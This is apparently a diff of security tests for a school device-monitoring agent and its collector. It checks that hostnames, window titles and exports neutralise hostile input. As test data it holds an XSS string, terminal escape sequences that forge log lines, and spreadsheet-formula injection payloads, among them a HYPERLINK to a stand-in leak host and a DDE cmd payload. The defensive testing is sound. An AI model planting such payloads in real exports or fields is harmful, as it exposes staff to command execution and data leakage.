@@ -33,7 +33,7 @@ from tests.support.agent import InProcessAgent, no_backends, spool_captures
 from tests.support.agent_client import make_capture
 from tests.support.collector import RunningCollector
 
-from .helpers import client, enrolled
+from .helpers import client, enrolled, run_async
 
 MB = 1024 * 1024
 SCRIPT = '<script>window.__pwned=1;alert("xss")</script>'
@@ -64,7 +64,7 @@ def stored(collector: RunningCollector) -> dict[str, object]:
             await s.send_captures(list(caps.values()))  # type: ignore[arg-type]
             await s.wait_for(lambda s: {c.id for c in caps.values()} <= s.acked)  # type: ignore[attr-defined]
         return caps
-    return asyncio.run(send())
+    return run_async(send())
 
 
 def test_hostile_text_is_stored_verbatim_as_data_and_tables_survive(
@@ -98,15 +98,13 @@ def test_megabyte_strings_are_truncated_with_a_marker(
 def test_cli_and_logs_never_replay_control_characters(
         collector: RunningCollector, stored: dict[str, object]) -> None:
     """A device chooses its own hostname; a technician's terminal must not execute it."""
-    import asyncio as _a
-
     async def enrol_evil() -> None:
         evil = client(collector, hostname="pc\x1b]0;owned\x07\nCRITICAL forged log line")
         await evil.enrol(collector.create_token())
         async with evil.connect() as s:
             await s.heartbeat(hostname="pc-evil\x1b[2J\x1b[H", os_user="x\ry")
             await s.wait_for(lambda s: s.configs)
-    _a.run(enrol_evil())
+    run_async(enrol_evil())
     out = collector.cli("devices").stdout
     assert "\x1b" not in out and "\x07" not in out, out[-300:]
     assert "\nCRITICAL forged" not in collector.log()
@@ -270,3 +268,95 @@ async def test_usb_file_with_undecodable_name_does_not_blind_the_media_watch(
     names = sorted(c.media.file_name for c in caps)
     assert "exam answers 2.txt" in names and any("\ufffd" in n for n in names), names
 
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak","open me")', "+SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
+
+
+def test_exports_neutralise_spreadsheet_formulas(collector: RunningCollector) -> None:
+    """A window title a pupil controls ends up in the DSL's CSV export, opened in Excel."""
+    import csv
+    import io
+
+    from starlette.testclient import TestClient
+
+    from collector.console import create_app
+    from tests.console.conftest import login
+
+    async def send() -> None:
+        a = await enrolled(collector, hostname="=cmd|' /C calc'!A0")
+        caps = [make_capture(rule_id=f"test.formula{i}", match=f[:100], context=f,
+                             window_title=f, process=f, os_user=f"=pupil{i}")
+                for i, f in enumerate(FORMULAS)]
+        async with a.connect() as s:
+            await s.send_captures(caps)
+            await s.wait_for(lambda s: {c.id for c in caps} <= s.acked)
+    run_async(send())
+    conn = sqlite3.connect(collector.db_path, timeout=10, isolation_level=None)
+    try:
+        user(conn, "dslcsv", "dsl", ["default"])
+    finally:
+        conn.close()
+    app = create_app(collector.db_path, collector.data_dir, public_url="https://testserver",
+                     allowed_hosts=["testserver"])
+    with TestClient(app, base_url="https://testserver") as tc:
+        assert login(tc, "dslcsv").status_code == 303
+        for url in ("/exports/incident-log.csv", "/exports/cpoms.csv"):
+            r = tc.get(url)
+            assert r.status_code == 200, url
+            cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
+            assert any("HYPERLINK" in cell or "pupil" in cell for cell in cells), url
+            bad = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+            assert bad == [], (url, bad[:5])
+
+
+@pytest.mark.mount
+@pytest.mark.skipif(os.geteuid() != 0, reason="mounting tmpfs needs root")
+async def test_stick_with_undecodable_mount_point_name_is_reported_and_watch_survives(
+        tmp_path: Path) -> None:
+    """A USB stick whose label is not UTF-8 is mounted at /media/<user>/<label bytes>: the
+    mount table then holds bytes that are not UTF-8. The agent must report it (with a
+    replacement character) and keep watching: a second, ordinary stick is reported too."""
+    from agent.platform import Backends
+    from agent.sources.media_linux import LinuxMediaSource
+
+    lib = tmp_path / "lib"
+    lib.mkdir()
+    (lib / "t.toml").write_text(
+        'category = "circumvention"\n[[rule]]\nid = "t.usb"\nseverity = 1\nphrases = []\n'
+        'sources = ["media"]\non_mount = true\n')
+    root = tmp_path / "media"
+    root.mkdir()
+    bad = os.path.join(os.fsencode(root), b"\xff\xfeSTICK")
+    good = root / "plain-stick"
+    os.mkdir(bad)
+    good.mkdir()
+    data = DataDir(tmp_path / "agent").ensure()
+    config = Config(rules_library=str(lib), watch_keys=False, watch_window=False)
+    backends = Backends("test", None, None, LinuxMediaSource(roots=(str(root),)))
+
+    def mounted(name: str) -> bool:
+        return any(c.media.event == "mounted" and name in c.media.mount_point
+                   for c in spool_captures(data.root))
+
+    async with InProcessAgent(data, config, backends=backends) as agent:
+        try:
+            for target, name in ((bad, "STICK"), (os.fsencode(good), "plain-stick")):
+                for _attempt in range(10):  # remount until seen (see the test above)
+                    subprocess.run([b"mount", b"-t", b"tmpfs", b"-o", b"size=1m", b"tmpfs",
+                                    target], check=True)
+                    try:
+                        await agent.wait_for(lambda n=name: mounted(n), timeout=3,  # type: ignore[misc]
+                                             what=f"the {name} mount")
+                        break
+                    except TimeoutError:
+                        subprocess.run([b"umount", target], check=True)
+                assert mounted(name), f"{name} was never reported"
+        finally:
+            for target in (bad, os.fsencode(good)):
+                subprocess.run([b"umount", b"-l", target], check=False,
+                               capture_output=True)
+    points = [c.media.mount_point for c in spool_captures(data.root)
+              if c.media.event == "mounted"]
+    assert any("\ufffd" in p and "STICK" in p for p in points), points
